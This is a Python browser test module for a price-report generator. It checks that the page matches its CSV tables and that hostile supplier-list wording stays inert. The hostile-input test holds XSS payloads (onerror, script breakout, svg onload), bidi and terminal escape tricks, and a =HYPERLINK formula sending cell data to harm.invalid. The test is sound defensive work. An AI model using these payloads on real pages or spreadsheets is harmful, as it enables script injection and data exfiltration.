"""report.html in a real browser, held against the tables beside it: chromium, axe-core 4.14."""

import csv
import math
import tempfile
from decimal import Decimal
from pathlib import Path

from .browser import drive, samefit, url

ROOT = Path(__file__).resolve().parents[3]
# Confidence from which the page calls an offer sure.
SURE = 0.9

HOSTILE_HEADER = "Article no;Title;Brand;Maker no;Price EUR\n"
IMAGE = "<img src=x onerror=\"globalThis.harm='image'\">"
SCRIPT = "</script><script>globalThis.harm='script'</script>"
# Number, title, brand, maker's number.
HOSTILE_LINES = (
    (IMAGE, f"Recoil starter 168F 196cc 3 hole {IMAGE} 118 mm PCD M6", "Halvor", "HK-101"),
    (f"N-2{SCRIPT}", f"Recoil starter 168F 196cc 3 hole {SCRIPT} 118 mm PCD", SCRIPT, "HK-102"),
    ("N-3", "Recoil starter 170F 212cc \u202e3 hole gnicaps\u202c 118 mm PCD\u2066", "Halvor\u202e", "HK-103\u200f"),
    ("N-4", "Recoil starter 170F 212cc \x1b[31m\x1b]0;taken over\x07 3 hole red", "Halvor", "HK-104"),
    ("N-5", '=HYPERLINK("http://harm.invalid/?"&A1;"Recoil starter 168F 196cc")', "Halvor", "HK-105"),
    ("N-6", "Recoil starter 168F 196cc &lt;svg onload=alert(1)&gt; javascript:alert(2)", "Halvor", f"HK-106{IMAGE}"),
)


def at_the_desk(context, check):
    """The report at desk and bench, on paper, in the dark and by keyboard: chromium, axe-core 4.14"""
    with tempfile.TemporaryDirectory() as folder:
        run = Path(folder) / "demo"
        lists, rates = ROOT / "input-samples/lists", ROOT / "input-samples/exchange-rates.toml"
        samefit(context, "build", lists, "--rates", rates, "--out", run, "--quiet")
        drive(context, check, "report.mjs", {"url": url(run / "report.html")} | from_the_tables(run))


def from_the_tables(run):
    """What the page must say of the group with most offers, worked out from the CSV files alone."""
    groups = rows(run / "groups.csv")
    offers = rows(run / "crossref.csv")
    group = max((row for row in groups if row["bolt_circle_mm"]), key=lambda row: int(row["offers"]))
    sure = [row for row in offers if row["group_id"] == group["group_id"] and float(row["confidence"]) >= SURE]
    cheapest = min(Decimal(row["landed_price"]) for row in sure if row["landed_price"])
    # A number that only this group's offers carry, with dashes to leave out.
    numbers = {}
    for row in offers:
        numbers.setdefault(row["mpn"], set()).add(row["group_id"])
    number = next(n for n in sorted(numbers) if "-" in n and len(n) > 8 and numbers[n] == {group["group_id"]})
    return {
        "group": group["group_id"],
        "groups": len(groups),
        "number": number,
        "spelling": number.replace("-", "").lower(),
        "sure": len(sure),
        "cheapest": f"{round(cheapest, 2)} {group['currency']}",
        "chord": float(group["bolt_circle_mm"]) * math.sin(math.pi / int(group["bolt_holes"])),
    }


def hostile_lists(context, check):
    """Hostile wording stays wording in the report: chromium"""
    with tempfile.TemporaryDirectory() as folder:
        lists, run = Path(folder) / "lists", Path(folder) / "run"
        lists.mkdir()
        # A file's name reaches the page as well.
        for name in ("north", "<b onclick=alert(3)>south"):
            lines = [";".join(map(quoted, line)) + ";12,50" for line in HOSTILE_LINES]
            (lists / f"{name}.csv").write_text(HOSTILE_HEADER + "\n".join(lines) + "\n", encoding="utf-8")
        samefit(context, "build", lists, "--out", run, "--quiet")
        words = [
            {"find": "onerror=", "shown": IMAGE},
            {"find": "</script>", "shown": SCRIPT},
            {"find": "=hyperlink(", "shown": "=HYPERLINK("},
            {"find": "onclick=", "shown": "<b onclick=alert(3)>south"},
        ]
        drive(context, check, "hostile.mjs", {"url": url(run / "report.html"), "words": words})


def quoted(cell):
    return '"' + cell.replace('"', '""') + '"'


def rows(path):
    with path.open(newline="", encoding="utf-8") as table:
        return list(csv.DictReader(table))


CHECKS = [at_the_desk, hostile_lists]
